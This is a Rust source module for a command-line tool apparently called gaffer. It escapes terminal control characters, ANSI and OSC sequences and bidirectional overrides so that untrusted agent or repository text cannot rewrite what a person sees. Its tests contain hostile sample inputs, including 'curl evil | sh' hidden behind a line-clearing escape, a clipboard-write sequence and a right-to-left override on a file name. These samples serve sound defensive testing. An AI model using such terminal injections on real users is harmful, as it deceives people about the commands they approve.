//! What reaches a terminal. Text that came from an agent, a repository or a request
//! is shown with its control characters made visible (`\x1b`, `\r`, `\u{202e}`), so
//! it can never move the cursor, rewrite the line a person is reading, set the
//! window title or the clipboard (OSC 52), clear the screen, or reorder what is shown.
//!
//! Everything gaffer prints on stdout goes through [`SafeWriter`] (only `\n` and `\t`
//! pass); what it draws on stderr (the live view, questions) escapes each value with
//! [`line`] or [`text`] before adding its own styling.

use std::borrow::Cow;
use std::fmt::Write as _;
use std::io::{IsTerminal, Write};

/// Unicode formatting characters that reorder or hide text (bidirectional
/// overrides and isolates, marks, line and paragraph separators, BOM).
fn is_format_control(c: char) -> bool {
    matches!(c,
        '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{2028}' | '\u{2029}'
        | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
}

fn escape<'a>(text: &'a str, keep: &[char]) -> Cow<'a, str> {
    let unsafe_char = |c: char| (c.is_control() && !keep.contains(&c)) || is_format_control(c);
    if !text.chars().any(unsafe_char) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        if !unsafe_char(c) {
            out.push(c);
            continue;
        }
        let _ = match c {
            '\n' => out.write_str("\\n"),
            '\r' => out.write_str("\\r"),
            '\t' => out.write_str("\\t"),
            c if u32::from(c) < 0x80 => write!(out, "\\x{:02x}", u32::from(c)),
            c => write!(out, "\\u{{{:x}}}", u32::from(c)),
        };
    }
    Cow::Owned(out)
}

/// `text` for one line: every control character, line breaks included, shown as
/// a visible escape.
pub fn line(text: &str) -> Cow<'_, str> {
    escape(text, &[])
}

/// `text` shown over several lines: line breaks and tabs kept, every other
/// control character shown as a visible escape.
pub fn text(text: &str) -> Cow<'_, str> {
    escape(text, &['\n', '\t'])
}

/// A writer that passes `\n` and `\t` and shows every other control character
/// (and bytes that are not UTF-8) as a visible escape. gaffer writes no styling to
/// stdout, so everything printed there goes through one.
pub struct SafeWriter<W: Write> {
    inner: W,
    /// The start of a UTF-8 character cut between two writes.
    pending: Vec<u8>,
}

impl<W: Write> SafeWriter<W> {
    /// Escape what is written to `inner`.
    pub fn new(inner: W) -> Self {
        Self {
            inner,
            pending: Vec::new(),
        }
    }
}

impl<W: Write> Write for SafeWriter<W> {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        self.pending.extend_from_slice(buf);
        let mut rest: &[u8] = &std::mem::take(&mut self.pending);
        let mut out = String::new();
        loop {
            match std::str::from_utf8(rest) {
                Ok(s) => {
                    out.push_str(&text(s));
                    break;
                }
                Err(e) => {
                    let (good, bad) = rest.split_at(e.valid_up_to());
                    out.push_str(&text(std::str::from_utf8(good).unwrap_or_default()));
                    match e.error_len() {
                        // Cut in the middle of a character: wait for its end.
                        None => {
                            self.pending = bad.to_vec();
                            break;
                        }
                        Some(n) => {
                            for b in &bad[..n] {
                                let _ = write!(out, "\\x{b:02x}");
                            }
                            rest = &bad[n..];
                        }
                    }
                }
            }
        }
        self.inner.write_all(out.as_bytes())?;
        Ok(buf.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        if !self.pending.is_empty() {
            let bytes = std::mem::take(&mut self.pending);
            let mut out = String::new();
            for b in bytes {
                let _ = write!(out, "\\x{b:02x}");
            }
            self.inner.write_all(out.as_bytes())?;
        }
        self.inner.flush()
    }
}

/// Standard output, escaped. Write to it with `writeln!(…)?`: a closed pipe
/// (`gaffer task list | head -1`) ends the command quietly (see `CliError`).
pub fn stdout() -> SafeWriter<std::io::StdoutLock<'static>> {
    SafeWriter::new(std::io::stdout().lock())
}

/// `println!` on the escaped stdout. A closed pipe (`| head -1`) ends the command
/// quietly, with exit code 0.
macro_rules! outln {
    ($($arg:tt)*) => {
        $crate::term::print_line(format_args!($($arg)*))
    };
}

/// `eprintln!` that never panics (see [`note`]), its control characters shown
/// escaped (line breaks kept).
macro_rules! errln {
    ($($arg:tt)*) => {
        $crate::term::note($crate::term::text(&format!($($arg)*)))
    };
}

/// One line on the escaped stdout; a closed pipe ends the process with 0.
pub fn print_line(args: std::fmt::Arguments<'_>) {
    if let Err(e) = writeln!(stdout(), "{args}") {
        if e.kind() == std::io::ErrorKind::BrokenPipe {
            std::process::exit(0);
        }
    }
}

/// The live view's spinner line, while one is drawn: what else goes to stderr is
/// written above it, never through it.
static LIVE_LINE: std::sync::Mutex<Option<indicatif::ProgressBar>> = std::sync::Mutex::new(None);

/// The spinner line now drawn on stderr (`None` once it is cleared).
pub fn set_live_line(bar: Option<indicatif::ProgressBar>) {
    if let Ok(mut live) = LIVE_LINE.lock() {
        *live = bar;
    }
}

/// Write to stderr above the spinner line, if one is drawn.
fn to_stderr(bytes: &[u8]) -> std::io::Result<()> {
    let live = LIVE_LINE.lock().ok().and_then(|l| l.clone());
    let write = || std::io::stderr().lock().write_all(bytes);
    match live {
        Some(bar) => bar.suspend(write),
        None => write(),
    }
}

/// A line on stderr (progress, questions, warnings). A closed stderr is ignored:
/// the work goes on, and the result still reaches stdout.
pub fn note(line: impl std::fmt::Display) {
    let _ = to_stderr(format!("{line}\n").as_bytes());
}

/// Where logs go: stderr, above the live view's spinner line.
pub struct LogWriter;

impl Write for LogWriter {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        to_stderr(buf).map(|()| buf.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        std::io::stderr().flush()
    }
}

/// Whether a person reads stderr, so a live view can be drawn there.
pub fn stderr_is_terminal() -> bool {
    std::io::stderr().is_terminal()
}

/// Whether a person types on stdin, so questions can be asked there.
pub fn stdin_is_terminal() -> bool {
    std::io::stdin().is_terminal()
}

/// Styling for stderr: none when stderr is not a terminal, when `NO_COLOR` is set
/// or `CLICOLOR=0`.
pub fn style() -> console::Style {
    console::Style::new().for_stderr()
}

/// Columns available for one line of stdout: the terminal's width, else `COLUMNS`,
/// else no limit (a pipe gets whole lines).
pub fn stdout_width() -> Option<usize> {
    if std::io::stdout().is_terminal() {
        if let Some((_, cols)) = console::Term::stdout().size_checked() {
            return Some(usize::from(cols));
        }
    }
    std::env::var("COLUMNS")
        .ok()
        .and_then(|c| c.parse().ok())
        .filter(|&c: &usize| c >= 20)
}

#[cfg(test)]
mod tests {
    use super::*;
    use pretty_assertions::assert_eq;

    #[test]
    fn a_line_shows_every_control_character() {
        assert_eq!(
            line("curl evil | sh\x1b[2K\rwants to run Bash: make test"),
            "curl evil | sh\\x1b[2K\\rwants to run Bash: make test"
        );
        assert_eq!(line("a\nb\tc\x08\x7f"), "a\\nb\\tc\\x08\\x7f");
        assert_eq!(line("\x1b]52;c;ZXZpbA==\x07"), "\\x1b]52;c;ZXZpbA==\\x07");
        assert_eq!(line("\u{9b}2J"), "\\u{9b}2J");
        assert_eq!(line("abc\u{202e}txt.exe"), "abc\\u{202e}txt.exe");
        assert!(matches!(line("plain — ünïcode ✓"), Cow::Borrowed(_)));
    }

    #[test]
    fn text_keeps_line_breaks_and_tabs_only() {
        assert_eq!(
            text("a\n\tb\r\x1b]0;pwned\x07"),
            "a\n\tb\\r\\x1b]0;pwned\\x07"
        );
    }

    #[test]
    fn the_writer_escapes_across_cut_characters_and_bad_bytes() {
        let mut out = SafeWriter::new(Vec::new());
        let bytes = "é\x1b[2J\n".as_bytes();
        out.write_all(&bytes[..1]).unwrap();
        out.write_all(&bytes[1..]).unwrap();
        out.write_all(b"\xff\xc2\x9b!\n").unwrap();
        out.flush().unwrap();
        assert_eq!(
            String::from_utf8(out.inner).unwrap(),
            "é\\x1b[2J\n\\xff\\u{9b}!\n"
        );
    }
}
